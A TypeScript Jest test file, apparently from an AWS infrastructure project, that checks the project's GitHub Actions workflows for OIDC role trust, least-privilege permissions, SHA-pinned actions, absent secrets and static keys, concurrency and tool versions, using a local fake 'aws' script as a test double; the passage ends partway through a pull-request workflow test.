import { execFileSync, execSync, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { Testing } from "cdktf";
import { parseDocument, parse as parseYaml } from "yaml";
import type { Platform } from "../app";
import { ENVIRONMENT_VARIABLES, PREVIEW_VARIABLES, REPOSITORY_VARIABLES, STACK_VARIABLES, stackVariable } from "../config/github-variables";
import { environmentAccount, GITHUB_WORKFLOWS, Naming } from "../config/naming";
import { previewDeployRoleName } from "../config/preview-naming";
import type { PlatformConfig } from "../config/types";
import { TERRAFORM_VERSION } from "../lib/terraform-version";
import { driftFromPlan } from "../scripts/drift";
import { buildSample, oneAccountConfig, sampleConfig } from "./support/sample";
import { parse, resources, type SynthesizedTerraform } from "./support/synth";

/**
 * The GitHub Actions workflows and repository files, read as data (parsed YAML, raw text), checked
 * against what the stacks create and the config says: the environments the deploy roles trust, the
 * variables the GitHub stack sets, the default branch, the platform owners, and the rules every job
 * follows (short-lived role credentials only, SHA-pinned actions, one deploy per environment).
 *
 * The promotion path is walked step by step: prod runs only an image built from the default branch
 * without cloud credentials, attested by deploy-stage.yml for its commit, verified before any AWS
 * credential exists, and deployed by the digest that was verified.
 */

interface Step {
  name?: string;
  id?: string;
  if?: string;
  uses?: string;
  run?: string;
  with?: Record<string, unknown>;
  env?: Record<string, unknown>;
}
interface Job {
  name?: string;
  if?: string;
  "runs-on"?: string;
  environment?: string | { name: string; url?: string };
  permissions?: Record<string, string>;
  concurrency?: string | { group: string; "cancel-in-progress"?: boolean };
  strategy?: { matrix?: Record<string, unknown> };
  needs?: string | string[];
  outputs?: Record<string, string>;
  env?: Record<string, unknown>;
  steps?: Step[];
  uses?: string;
  with?: Record<string, unknown>;
  secrets?: unknown;
}
interface Workflow {
  name: string;
  on: Record<string, any>;
  permissions?: Record<string, string>;
  concurrency?: Job["concurrency"];
  env?: Record<string, unknown>;
  jobs: Record<string, Job>;
}

const ROOT = join(__dirname, "..");
const GITHUB_DIR = join(ROOT, ".github");
const WORKFLOW_DIR = join(GITHUB_DIR, "workflows");
/** Node is package.json's engine; Terraform is lib/terraform-version.ts. */
const NODE_MAJOR = /(\d+)/.exec(JSON.parse(readFileSync(join(ROOT, "package.json"), "utf8")).engines.node)![1];

const files = readdirSync(WORKFLOW_DIR).filter((f) => /\.ya?ml$/.test(f));
const sources = Object.fromEntries(files.map((f) => [f, readFileSync(join(WORKFLOW_DIR, f), "utf8")]));
const workflows: Record<string, Workflow> = Object.fromEntries(files.map((f) => [f, parseYaml(sources[f]) as Workflow]));
const jobs = Object.entries(workflows).flatMap(([file, wf]) => Object.entries(wf.jobs).map(([id, job]) => ({ file, id, job, wf })));
const at = (j: { file: string; id: string }) => `${j.file} job ${j.id}`;
/** A repository file, or undefined when it is missing (its tests then fail, not the whole file). */
const repoFile = (path: string): string | undefined => (existsSync(join(ROOT, path)) ? readFileSync(join(ROOT, path), "utf8") : undefined);

/** Every string value in a parsed YAML tree (keys excluded). */
function strings(node: unknown): string[] {
  if (typeof node === "string") return [node];
  if (Array.isArray(node)) return node.flatMap(strings);
  if (node && typeof node === "object") return Object.values(node).flatMap(strings);
  return [];
}
/** Every key in a parsed YAML tree. */
function keys(node: unknown): string[] {
  if (Array.isArray(node)) return node.flatMap(keys);
  if (node && typeof node === "object") return Object.entries(node).flatMap(([k, v]) => [k, ...keys(v)]);
  return [];
}
/** The contents of every `${{ ... }}` expression in a string. */
const expressions = (s: string): string[] => [...s.matchAll(/\$\{\{(.*?)\}\}/gs)].map((m) => m[1]);
/** Names read from a context (`vars`, `secrets`, ...) in the expressions of a parsed YAML tree. */
const contextNames = (node: unknown, context: string): string[] =>
  strings(node)
    .flatMap(expressions)
    .flatMap((e) => [...e.matchAll(new RegExp(`\\b${context}\\.([A-Za-z_][A-Za-z0-9_]*)`, "g"))].map((m) => m[1]));

const envName = (job: Job): string | undefined => (typeof job.environment === "string" ? job.environment : job.environment?.name);
const action = (uses: string | undefined): string | undefined => uses?.split("@")[0];
const stepsUsing = (job: Job, name: string): Step[] => (job.steps ?? []).filter((s) => action(s.uses) === name);
const assumesRole = (job: Job) => stepsUsing(job, "aws-actions/configure-aws-credentials").length > 0;
const runLines = (job: Job): string[] => (job.steps ?? []).flatMap((s) => (s.run ?? "").split("\n").map((l) => l.trim()));
/** Everything a job runs or passes to an action, as one text. */
const jobText = (job: Job): string => strings(job).join("\n");
const concurrencyOf = (job: Job, wf: Workflow) => {
  const c = job.concurrency ?? wf.concurrency;
  return typeof c === "string" ? { group: c, "cancel-in-progress": false } : c;
};
/** The environment a step runs with: workflow, job and step `env:` merged, the innermost winning. */
const envOf = (wf: Workflow, job: Job, step: Step): Record<string, unknown> => ({ ...wf.env, ...job.env, ...step.env });
/** A shell command with `$NAME` / `${NAME}` replaced by the values of `env` (others, and `${NAME#...}`, left as they are). */
const expand = (command: string, env: Record<string, unknown>): string =>
  command.replace(/\$(?:\{([A-Za-z_]\w*)\}|([A-Za-z_]\w*))/g, (whole, braced?: string, bare?: string) => {
    const name = (braced ?? bare)!;
    return name in env ? String(env[name]) : whole;
  });
/** Position of the first step matching `test`; -1 when none does. */
const stepIndex = (job: Job, test: (s: Step) => boolean): number => (job.steps ?? []).findIndex(test);
const runs = (pattern: RegExp) => (s: Step) => pattern.test(s.run ?? "");

/**
 * A raw `uses:` line that names one commit: `owner/repo[/path]@<40 hex> # v<version>`, the version
 * comment being what Dependabot reads and updates with the SHA.
 */
const PINNED_USES_LINE =
  /^\s*(?:-\s+)?uses:\s+[A-Za-z0-9_.-]+\/[A-Za-z0-9_.-]+(?:\/[A-Za-z0-9_./-]+)?@[0-9a-f]{40}\s+#\s+v\d+(?:\.\d+)*\s*$/;
/** The step that installs Terraform pinned by the zip's sha256, in every job with an id-token that runs it. */
const PINNED_TERRAFORM_STEP = "Install Terraform (pinned by sha256)";
/** The step that checks, before any credential, that synthesized Terraform calls nothing but AWS. */
const VET_STEP = "Check the Terraform runs nothing but AWS";
/** True when the job's token can be exchanged for an OIDC token (and so for a role). */
const holdsIdToken = (job: Job): boolean => job.permissions?.["id-token"] === "write";
/** Runs a script as `shell: bash` does on GitHub (bash --noprofile --norc -eo pipefail) in `cwd`, with only `env` and PATH. */
function bash(script: string, env: Record<string, string>, cwd: string) {
  const result = spawnSync("bash", ["--noprofile", "--norc", "-eo", "pipefail", "-c", script], {
    cwd,
    env: { PATH: process.env.PATH, RUNNER_TEMP: cwd, ...env },
    encoding: "utf8",
  });
  return { status: result.status, log: `${result.stdout}${result.stderr}` };
}
/**
 * A stand-in `aws` on PATH for a step run under test: it records each call's arguments (`calls()`),
 * answers `ecs describe-services` (task definition `<service>:7` per service asked for, no failure) and
 * `ecs describe-task-definition` (the image `FAKE_AWS_IMAGES` maps the service to, else its `"*"`), and
 * fails `ecs wait` when the services asked for include `FAKE_AWS_UNSTABLE`.
 */
function fakeAws(cwd: string): { path: string; calls: () => string[] } {
  const bin = join(cwd, "fake-bin");
  mkdirSync(bin, { recursive: true });
  const log = join(cwd, "aws-calls.txt");
  writeFileSync(log, "");
  const script = `#!/bin/bash
printf '%s\\n' "$*" >> ${JSON.stringify(log)}
case "$1 $2" in
  "ecs wait") [[ -n "$FAKE_AWS_UNSTABLE" && " $* " == *" $FAKE_AWS_UNSTABLE "* ]] && exit 255; exit 0 ;;
  "ecs describe-services")
    services=(); while [ $# -gt 0 ]; do
      if [ "$1" = --services ]; then shift; while [ $# -gt 0 ] && [[ "$1" != --* ]]; do services+=("$1"); shift; done; else shift; fi
    done
    printf '%s\\n' "\${services[@]}" | jq -R . |
      jq -sc '{services: map({serviceName: ., taskDefinition: "arn:aws:ecs:eu-west-1:1:task-definition/\\(.):7"}), failures: []}' ;;
  "ecs describe-task-definition")
    while [ "$1" != --task-definition ]; do shift; done
    service=\${2##*/}; service=\${service%:*}
    jq -r --arg s "$service" '.[$s] // .["*"]' <<< "$FAKE_AWS_IMAGES" ;;
  *) echo "fake aws: unexpected call: $*" >&2; exit 2 ;;
esac
`;
  writeFileSync(join(bin, "aws"), script, { mode: 0o755 });
  return {
    path: `${bin}:${process.env.PATH}`,
    calls: () =>
      readFileSync(log, "utf8")
        .split("\n")
        .filter((l) => l !== ""),
  };
}
/** The synthesized stack with `count` more ECS services, copies of its first named `<name>-worker-<i>`; and every service's name. */
function withMoreServices(tf: SynthesizedTerraform, count: number): { tf: SynthesizedTerraform; names: string[] } {
  const more = structuredClone(tf) as any;
  const services: Record<string, { name: string }> = more.resource.aws_ecs_service;
  const [first] = Object.values(services);
  for (let i = 1; i <= count; i++) services[`worker_${i}`] = { ...first, name: `${first.name}-worker-${i}` };
  return { tf: more, names: Object.values(services).map((s) => s.name) };
}
/** A checkout-like directory holding `tf` as cdktf.out/stacks/<stack>/cdk.tf.json. */
function stackCheckout(stack: string, tf: unknown): string {
  const cwd = mkdtempSync(join(tmpdir(), "step-"));
  const dir = join(cwd, "cdktf.out", "stacks", stack);
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "cdk.tf.json"), JSON.stringify(tf));
  return cwd;
}
/** The reusable workflow, the only local `uses:`. */
const REUSABLE_USES = "./.github/workflows/deploy.yml";

// What the stacks create, from their synthesized Terraform.
const config = sampleConfig();
const platform = buildSample(config);
/** Every account's bootstrap (the shipped config: stage's account's and prod's), synthesized. */
const bootstraps = Object.values(platform.bootstraps).map((b) => parse(Testing.synth(b)));
const github = parse(Testing.synth(platform.github));
/** The subjects a role's trust accepts (StringEquals, or StringLike for a pull request's ref); none for a role GitHub cannot assume. */
function subjectsOf(role: Record<string, any>): string[] {
  const condition = JSON.parse(role.assume_role_policy).Statement[0].Condition ?? {};
  const key = "token.actions.githubusercontent.com:sub";
  return [condition.StringEquals?.[key] ?? condition.StringLike?.[key] ?? []].flat();
}
/** The roles of every account's bootstrap. */
const bootstrapRoles = bootstraps.flatMap((b) => Object.values(resources(b, "aws_iam_role")));
const subjects = bootstrapRoles.flatMap(subjectsOf);
const REPO = `${config.project.github.owner}/${config.project.github.repo}`;
const PR_REF = "refs/pull/*/merge";
/** The `job_workflow_ref` part of a subject for a workflow file of the config's repository. */
const workflowRef = (file: string, ref = `refs/heads/${defaultBranch}`) => `job_workflow_ref:${REPO}/${file}@${ref}`;
const environmentVariableNames = new Set(
  Object.values(resources(github, "github_actions_environment_variable")).map((v) => v.variable_name as string),
);
const repositoryVariableNames = new Set(Object.values(resources(github, "github_actions_variable")).map((v) => v.variable_name as string));
const envNames = config.environments.map((e) => e.name);
const defaultBranch = config.project.github.defaultBranch ?? "main";
const requiredCheck = config.project.github.requiredCheck ?? "test";

const PR = "pull-request.yml";
const STAGE = "deploy-stage.yml";
const PROD = "deploy-prod.yml";
const DEPLOY = "deploy.yml";
const DRIFT = "drift.yml";
const PREVIEW = "preview.yml";
const REAPER = "preview-reaper.yml";
/** The preview workflows (__tests__/preview-workflows.test.ts tests them further). */
const PREVIEW_FILES = [PREVIEW, REAPER];
/** The repository variable of the preview role's ARN (the github stack sets it where previews are configured). */
const PREVIEW_ROLE_VARIABLE = PREVIEW_VARIABLES.roleArn;
const DEPLOY_FILE = `.github/workflows/${DEPLOY}`;
/** The environments the deploy roles trust (the plan role trusts the plan-<env> environments). */
const trustedEnvironments = subjects
  .filter((s) => s.endsWith(`/${DEPLOY_FILE}@refs/heads/${config.project.github.defaultBranch ?? "main"}`))
  .map((s) => /:environment:([^:]+)/.exec(s)?.[1])
  .filter((e): e is string => e !== undefined);

/** Every AWS stack of a platform, in drift.yml's order: each account's bootstrap, then each environment. */
function awsStacks(p: Platform): string[] {
  return [...Object.keys(p.bootstraps), ...Object.keys(p.environments)];
}

/** The jobs that run synthesized Terraform with a role: each installs the pinned Terraform and checks the Terraform first. */
const TERRAFORM_JOBS = [
  `${DEPLOY} job deploy`,
  `${DRIFT} job plan`,
  `${PR} job plan`,
  `${PREVIEW} job deploy`,
  `${PREVIEW} job destroy`,
  `${REAPER} job destroy`,
].sort();

/** The jobs that call the reusable deploy workflow. */
const callers = jobs.filter((j) => j.job.uses === REUSABLE_USES);

describe("workflow files", () => {
  it("are the pull-request, deploy-stage, deploy-prod, reusable deploy, drift and preview workflows, each valid YAML", () => {
    expect(files.sort()).toEqual([STAGE, PROD, PR, DEPLOY, DRIFT, PREVIEW, REAPER].sort());
    for (const f of files) {
      const doc = parseDocument(sources[f]);
      expect(doc.errors).toEqual([]);
      expect(doc.warnings).toEqual([]);
    }
  });

  it("run on a pull request, a push to the config's default branch, by hand, and when called", () => {
    expect(Object.keys(workflows[PR].on)).toEqual(["pull_request"]);
    expect(workflows[STAGE].on).toEqual({ push: { branches: [config.project.github.defaultBranch] } });
    expect(Object.keys(workflows[PROD].on)).toEqual(["workflow_dispatch"]);
    expect(workflows[PROD].on.workflow_dispatch.inputs.commit_sha).toMatchObject({ required: false, type: "string" });
    expect(Object.keys(workflows[DEPLOY].on)).toEqual(["workflow_call"]);
    expect(workflows[PREVIEW].on).toEqual({ pull_request: { types: ["opened", "synchronize", "reopened", "closed"] } });
    expect(Object.keys(workflows[REAPER].on)).toEqual(["schedule", "workflow_dispatch"]);
  });

  it("never run on pull_request_target or workflow_run (a fork's code with the repository's token and secrets)", () => {
    for (const [file, wf] of Object.entries(workflows)) {
      expect({ file, on: Object.keys(wf.on).filter((e) => e === "pull_request_target" || e === "workflow_run") }).toEqual({ file, on: [] });
    }
  });

  it("the reusable workflow's inputs are typed strings, all required", () => {
    const inputs = workflows[DEPLOY].on.workflow_call.inputs as Record<string, { type: string; required: boolean; description?: string }>;
    expect(Object.keys(inputs).sort()).toEqual(["artifact_name", "artifact_run_id", "commit_sha", "environment", "image_digest"]);
    for (const [name, input] of Object.entries(inputs)) {
      expect({ name, type: input.type, required: input.required, described: Boolean(input.description) }).toEqual({
        name,
        type: "string",
        required: true,
        described: true,
      });
    }
  });

  it("name the config's default branch wherever they check it", () => {
    const deploy = workflows[DEPLOY].jobs.deploy;
    expect(deploy.env?.SIGNED_REF).toBe(`refs/heads/${defaultBranch}`);
    const resolve = workflows[PROD].jobs.resolve;
    expect(resolve.env?.DEFAULT_BRANCH).toBe(defaultBranch);
    // Not a silent skip: the first step fails, naming the branch to start it from.
    expect(resolve.if).toBeUndefined();
    const [first] = resolve.steps ?? [];
    expect(first.env?.REF).toBe("${{ github.ref }}");
    expect(first.run).toContain('if [ "$REF" != "refs/heads/$DEFAULT_BRANCH" ]; then');
    expect(first.run).toMatch(/exit 1/);
  });
});

describe("environments and roles", () => {
  it("the deploy environments are exactly those the deploy roles' OIDC subjects name, one call each", () => {
    expect(trustedEnvironments.sort()).toEqual([...envNames].sort());
    expect(callers.map((c) => String(c.job.with?.environment)).sort()).toEqual([...trustedEnvironments].sort());
    expect(workflows[STAGE].jobs.deploy.with?.environment).toBe("stage");
    expect(workflows[PROD].jobs.deploy.with?.environment).toBe("prod");
  });

  it("only the reusable workflow's job enters a deploy environment, the one its caller names; the plan job its plan-<env>", () => {
    expect(jobs.filter((j) => envName(j.job)).map(at)).toEqual([`${DEPLOY} job deploy`, `${PR} job plan`]);
    expect(envName(workflows[DEPLOY].jobs.deploy)).toBe("${{ inputs.environment }}");
    expect(envName(workflows[PR].jobs.plan)).toBe("plan-${{ matrix.environment }}");
  });

  it("a job in a deploy environment assumes that environment's deploy role from its environment variable", () => {
    const inEnvironment = jobs.filter((j) => envName(j.job) && !envName(j.job)!.startsWith("plan-"));
    expect(inEnvironment.length).toBeGreaterThan(0);
    for (const j of inEnvironment) {
      const [assume] = stepsUsing(j.job, "aws-actions/configure-aws-credentials");
      expect(assume?.with?.["role-to-assume"]).toBe(`\${{ vars.${ENVIRONMENT_VARIABLES.deployRoleArn} }}`);
    }
  });

  it("only the plan job, on pull_request in a plan-<env> environment, assumes the plan role (its subjects)", () => {
    for (const env of envNames)
      expect(subjects).toContain(`repo:${REPO}:environment:plan-${env}:${workflowRef(`.github/workflows/${PR}`, PR_REF)}`);
    const githubEnvironments = Object.values(resources(github, "github_repository_environment")).map((e) => e.environment);
    expect(githubEnvironments).toEqual(expect.arrayContaining(envNames.map((e) => `plan-${e}`)));
    const planners = jobs.filter(
      (j) => !envName(j.job)?.match(/^\$\{\{ inputs\./) && assumesRole(j.job) && j.file !== DRIFT && !PREVIEW_FILES.includes(j.file),
    );
    expect(planners.map(at)).toEqual([`${PR} job plan`]);
    for (const j of planners) {
      expect(Object.keys(j.wf.on)).toEqual(["pull_request"]);
      // The plan role of the matrix environment's account, picked by the step `account` (below).
      for (const s of stepsUsing(j.job, "aws-actions/configure-aws-credentials")) {
        expect(s.with?.["role-to-assume"]).toBe(`\${{ steps.account.outputs.${STACK_VARIABLES.planRoleArn} }}`);
      }
    }
  });

  it("only the drift job assumes the drift role, on the default branch only (the drift role's subject)", () => {
    expect(subjects).toContain(`repo:${REPO}:ref:refs/heads/${defaultBranch}:${workflowRef(`.github/workflows/${DRIFT}`)}`);
    const drifters = jobs.filter((j) =>
      stepsUsing(j.job, "aws-actions/configure-aws-credentials").some((s) =>
        String(s.with?.["role-to-assume"]).includes(STACK_VARIABLES.driftRoleArn),
      ),
    );
    expect(drifters.map(at)).toEqual([`${DRIFT} job plan`]);
    // The first job is skipped off the default branch, and every other job needs it.
    expect(workflows[DRIFT].jobs.synth.if).toBe(`github.ref == 'refs/heads/${defaultBranch}'`);
    expect(workflows[DRIFT].jobs.plan.needs).toBe("synth");
    expect(workflows[DRIFT].jobs.report.needs).toBe("plan");
    expect(envName(workflows[DRIFT].jobs.plan)).toBeUndefined();
  });

  it("plans every configured environment", () => {
    expect(workflows[PR].jobs.plan.strategy?.matrix?.environment).toEqual(envNames);
  });
});

describe("variables", () => {
  const used = new Set(Object.values(workflows).flatMap((wf) => contextNames(wf, "vars")));
  /** Every per-stack variable a workflow's `account` step reads, over its matrix. */
  const usedPerStack = new Set(
    jobs.flatMap(({ job }) => {
      const pick = job.steps?.find((s) => s.id === "account");
      if (!pick) return [];
      const names = /for name in ([\w ]+); do/.exec(pick.run ?? "")![1].split(" ");
      const stacks = Object.values(job.strategy?.matrix ?? {}).flat() as string[];
      return stacks.flatMap((stack) => names.map((name) => stackVariable(name as never, stack)));
    }),
  );
  const perStack = awsStacks(platform).flatMap((stack) => Object.values(STACK_VARIABLES).map((name) => stackVariable(name, stack)));

  it("the GitHub stack creates exactly the variables the names module lists: the region, each AWS stack's four, the preview role's", () => {
    // The shipped config turns previews on, so the github stack sets the preview role's ARN (none without previews: preview-role.test.ts).
    expect(config.previews?.host).toBe("stage");
    expect([...environmentVariableNames].sort()).toEqual(Object.values(ENVIRONMENT_VARIABLES).sort());
    expect([...repositoryVariableNames].sort()).toEqual(
      [...Object.values(REPOSITORY_VARIABLES), ...Object.values(PREVIEW_VARIABLES), ...perStack].sort(),
    );
    expect(perStack).toContain("AWS_PLAN_ROLE_ARN_PROD");
  });

  it("the workflows read only variables the GitHub stack creates, and every name it creates is read", () => {
    const created = (v: string) => environmentVariableNames.has(v) || repositoryVariableNames.has(v);
    expect([...used, ...usedPerStack].filter((v) => !created(v))).toEqual([]);
    expect([...used].sort()).toEqual(
      [...new Set([...environmentVariableNames, ...Object.values(REPOSITORY_VARIABLES), ...Object.values(PREVIEW_VARIABLES)])].sort(),
    );
    const baseNames = [...usedPerStack].map((v) => Object.values(STACK_VARIABLES).find((n) => v.startsWith(`${n}_`)));
    expect([...new Set(baseNames)].sort()).toEqual(Object.values(STACK_VARIABLES).sort());
  });

  it("no workflow reads a plan or drift role, bucket or table but through its stack's variable", () => {
    for (const name of Object.values(STACK_VARIABLES)) expect([...used]).not.toContain(name);
  });

  it("environment-only variables are read only by jobs in an environment", () => {
    const envOnly = [...environmentVariableNames].filter((v) => !repositoryVariableNames.has(v));
    expect(envOnly).toEqual([ENVIRONMENT_VARIABLES.deployRoleArn]);
    for (const j of jobs.filter((j) => !envName(j.job))) {
      for (const v of envOnly) expect(contextNames(j.job, "vars")).not.toContain(v);
    }
  });
});

describe("permissions and credentials", () => {
  it("grant nothing at the workflow level: every job asks for its own", () => {
    for (const wf of Object.values(workflows)) expect(wf.permissions).toEqual({});
    for (const j of jobs) expect({ job: at(j), permissions: j.job.permissions !== undefined }).toEqual({ job: at(j), permissions: true });
  });

  it("give every job contents: read, and otherwise only id-token, actions: read, attestations, security-events and pull-requests", () => {
    const allowed: Record<string, string[]> = {
      contents: ["read"],
      "id-token": ["write"],
      actions: ["read"],
      attestations: ["read", "write"],
      "security-events": ["write"],
      "pull-requests": ["read", "write"],
    };
    for (const j of jobs.filter((j) => j.file !== DRIFT)) {
      expect({ job: at(j), contents: j.job.permissions?.contents }).toEqual({ job: at(j), contents: "read" });
      for (const [scope, level] of Object.entries(j.job.permissions ?? {})) {
        expect({ job: at(j), scope, allowed: allowed[scope]?.includes(level) ?? false }).toEqual({ job: at(j), scope, allowed: true });
      }
    }
  });

  it("ask for id-token: write only to assume a role, to sign the attestation, or to pass it to the reusable deploy", () => {
    const assuming = jobs.filter((j) => assumesRole(j.job)).map(at);
    const withToken = jobs.filter((j) => j.job.permissions?.["id-token"] === "write").map(at);
    expect(assuming.length).toBeGreaterThan(0);
    expect(withToken.sort()).toEqual([...assuming, `${STAGE} job attest`, `${PREVIEW} job attest`, ...callers.map(at)].sort());
  });

  it("only the drift report may write issues, and it holds no id-token; the drift plan holds the id-token and no issues", () => {
    expect(jobs.filter((j) => j.job.permissions?.issues !== undefined).map(at)).toEqual([`${DRIFT} job report`]);
    expect(workflows[DRIFT].jobs.report.permissions).toEqual({ contents: "read", issues: "write" });
    expect(workflows[DRIFT].jobs.plan.permissions).toEqual({ contents: "read", "id-token": "write" });
  });

  it("only the attest job may write attestations; no job that holds, or passes on, an AWS role can", () => {
    expect(
      jobs
        .filter((j) => j.job.permissions?.attestations === "write")
        .map(at)
        .sort(),
    ).toEqual([`${STAGE} job attest`, `${PREVIEW} job attest`].sort());
    for (const j of [...jobs.filter((j) => assumesRole(j.job)), ...callers]) {
      expect({ job: at(j), attestations: j.job.permissions?.attestations }).not.toEqual({ job: at(j), attestations: "write" });
    }
  });

  it("the callers grant exactly what the reusable deploy asks for, and pass it no secrets", () => {
    expect(callers.map(at).sort()).toEqual([`${PROD} job deploy`, `${STAGE} job deploy`]);
    // The synth job asks for a subset of it.
    expect(workflows[DEPLOY].jobs.synth.permissions).toEqual({ contents: "read" });
    for (const c of callers) {
      expect(c.job.permissions).toEqual(workflows[DEPLOY].jobs.deploy.permissions);
      expect(c.job.secrets).toBeUndefined();
    }
  });

  it("assume roles with role-to-assume only, never with keys", () => {
    for (const j of jobs) {
      for (const s of stepsUsing(j.job, "aws-actions/configure-aws-credentials")) {
        expect(s.with).toHaveProperty("role-to-assume");
        expect(Object.keys(s.with!).filter((k) => /access-key|secret|session-token/.test(k))).toEqual([]);
      }
    }
  });

  it("reference no secret at all, and set no AWS key variable", () => {
    for (const wf of Object.values(workflows)) {
      expect(contextNames(wf, "secrets")).toEqual([]);
      expect(keys(wf).filter((k) => /^AWS_(ACCESS_KEY_ID|SECRET_ACCESS_KEY|SESSION_TOKEN)$/.test(k))).toEqual([]);
    }
  });

  it("check out without leaving the token in the git config", () => {
    for (const j of jobs) {
      for (const s of stepsUsing(j.job, "actions/checkout")) expect(s.with?.["persist-credentials"]).toBe(false);
    }
  });
});

describe("pinned actions", () => {
  const uses = jobs.flatMap((j) => [...(j.job.uses ? [j.job.uses] : []), ...(j.job.steps ?? []).flatMap((s) => (s.uses ? [s.uses] : []))]);
  const remote = uses.filter((u) => !u.startsWith("./"));
  const usesLines = Object.entries(sources).flatMap(([file, text]) =>
    text
      .split("\n")
      .filter((l) => /^\s*(?:-\s+)?uses:/.test(l) && !l.includes(REUSABLE_USES))
      .map((line) => ({ file, line: line.trim() })),
  );

  it("accepts owner/repo[/path]@<commit SHA> # v<version>, rejects tags, branches, short SHAs and a missing comment", () => {
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # v4.2.2")).toBe(true);
    expect(PINNED_USES_LINE.test("uses: github/codeql-action/init@0123456789abcdef0123456789abcdef01234567 # v3.28.0")).toBe(true);
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@v4.2.2")).toBe(false);
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@v4.2.2 # v4.2.2")).toBe(false);
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@main # v4")).toBe(false);
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@11bd719 # v4.2.2")).toBe(false);
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683")).toBe(false);
    expect(PINNED_USES_LINE.test("- uses: actions/checkout@11bd71901bbe5b1630ceea73d27597364c9af683 # latest")).toBe(false);
  });

  it("every uses: (steps and jobs) is pinned to a commit SHA with its version in a comment on the same line", () => {
    expect(remote.length).toBeGreaterThan(10);
    // One raw line per parsed uses:, so none hides in a flow mapping or a multi-line value.
    expect(usesLines).toHaveLength(remote.length);
    expect(usesLines.filter((u) => !PINNED_USES_LINE.test(u.line))).toEqual([]);
  });

  it("the only local uses: is the reusable deploy workflow, and it exists", () => {
    expect([...new Set(uses.filter((u) => u.startsWith("./")))]).toEqual([REUSABLE_USES]);
    expect(existsSync(join(ROOT, REUSABLE_USES))).toBe(true);
  });

  it("one action, one version, across the workflows", () => {
    const versions = new Map<string, Set<string>>();
    for (const u of remote) versions.set(action(u)!, (versions.get(action(u)!) ?? new Set()).add(u));
    for (const [name, v] of versions) expect({ name, versions: [...v] }).toEqual({ name, versions: [[...v][0]] });
  });
});

describe("concurrency", () => {
  const deploy = workflows[DEPLOY]?.jobs.deploy;

  it("puts every deploy in its environment's group, queued rather than cancelled", () => {
    const c = concurrencyOf(deploy, workflows[DEPLOY]);
    expect(c).toEqual({ group: "deploy-${{ inputs.environment }}", "cancel-in-progress": false });
  });

  it("one group per environment: the group depends on the environment alone", () => {
    const group = concurrencyOf(deploy, workflows[DEPLOY])!.group;
    expect(expressions(group).map((e) => e.trim())).toEqual(["inputs.environment"]);
    expect(expressions(envName(deploy)!).map((e) => e.trim())).toEqual(["inputs.environment"]);
  });

  it("the callers take no group of the callee's name (the same group in caller and callee would deadlock)", () => {
    for (const c of callers) {
      const calleeGroup = `deploy-${String(c.job.with?.environment)}`;
      expect({ job: at(c), same: concurrencyOf(c.job, c.wf)?.group === calleeGroup }).toEqual({ job: at(c), same: false });
    }
  });

  it("deploy-stage runs one pipeline at a time, in push order, so an early build never deploys an older commit after a newer one", () => {
    expect(workflows[STAGE].concurrency).toEqual({ group: "deploy-stage-pipeline", "cancel-in-progress": false });
  });
});

describe("tool versions", () => {
  it("set up Terraform 1.11.4 wherever terraform or cdktf runs: by a pinned sha256 with an id-token, else without the wrapper", () => {
    for (const j of jobs) {
      const runsTerraform = runLines(j.job).some((l) => /\b(terraform|cdktf) [a-z-]/.test(l));
      const setups = stepsUsing(j.job, "hashicorp/setup-terraform");
      const pinned = (j.job.steps ?? []).filter((s) => s.name === PINNED_TERRAFORM_STEP);
      const found = { job: at(j), setups: setups.length, pinned: pinned.length };
      if (runsTerraform) {
        expect(found).toEqual({ job: at(j), ...(holdsIdToken(j.job) ? { setups: 0, pinned: 1 } : { setups: 1, pinned: 0 }) });
      }
      for (const s of setups) expect(s.with).toMatchObject({ terraform_version: TERRAFORM_VERSION, terraform_wrapper: false });
      if (pinned.length > 0) expect(j.job.env?.TERRAFORM_VERSION).toBe(TERRAFORM_VERSION);
    }
  });

  it("set up Node 20 (package.json's engine) wherever npm runs", () => {
    expect(NODE_MAJOR).toBe("20");
    for (const j of jobs) {
      const runsNpm = runLines(j.job).some((l) => /^(npm|npx) /.test(l));
      const setups = stepsUsing(j.job, "actions/setup-node");
      if (runsNpm) expect({ job: at(j), setups: setups.length }).toEqual({ job: at(j), setups: 1 });
      for (const s of setups) expect(String(s.with?.["node-version"])).toBe(NODE_MAJOR);
    }
  });
});

describe("pull-request workflow", () => {
  const pr = workflows[PR];

  it("runs `npm ci` then `npm test` in the job named as the required check", () => {
    const test = Object.values(pr.jobs).find((j) => j.name === requiredCheck)!;
    expect(test).toBeDefined();
    const lines = runLines(test);
    const install = lines.findIndex((l) => l.startsWith("npm ci"));
    expect(install).toBeGreaterThanOrEqual(0);
    expect(lines.indexOf("npm test")).toBeGreaterThan(install);
  });

  it("gives the tests their tools: terraform, moto 5.2.1 and an AWS provider mirror", () => {
    const test = pr.jobs.test;
    expect(runLines(test).some((l) => l.includes('"moto[server]==5.2.1"'))).toBe(true);
    expect(runLines(test).some((l) => l.includes("providers mirror"))).toBe(true);
    expect(runLines(test).some((l) => l.includes("TF_PLUGIN_MIRROR="))).toBe(true);
    expect(pr.env?.AWS_PROVIDER_VERSION).toBe("5.100.0");
  });

  it("synthesizes JSON, runs the audit (report and HCL in their own directory) and uploads both", () => {
    const synth = pr.jobs.synth;
    const lines = runLines(synth);
    expect(lines).toContain("npx cdktf synth --output cdktf.out");
    expect(lines).toContain("npm run audit");
    expect(lines.some((l) => l.includes("--hcl"))).toBe(false);
    const [upload] = stepsUsing(synth, "actions/upload-artifact");
    expect(String(upload.with?.path).split("\n").filter(Boolean)).toEqual(["cdktf.out/", "audit.out/"]);
  });

  it("audits against the base branch's synth when it has one, and publishes the audit even when it fails", () => {
    const synth = pr.jobs.synth;
    const [, base] = stepsUsing(synth, "actions/checkout");
    expect(base.with).toEqual({ ref: "${{ github.event.pull_request.base.sha }}", path: "base", "persist-credentials": false });
    expect(runLines(synth)).toContain('npm run audit -- --base "$RUNNER_TEMP/base.out"');
    const audit = stepIndex(synth, runs(/npm run audit/));
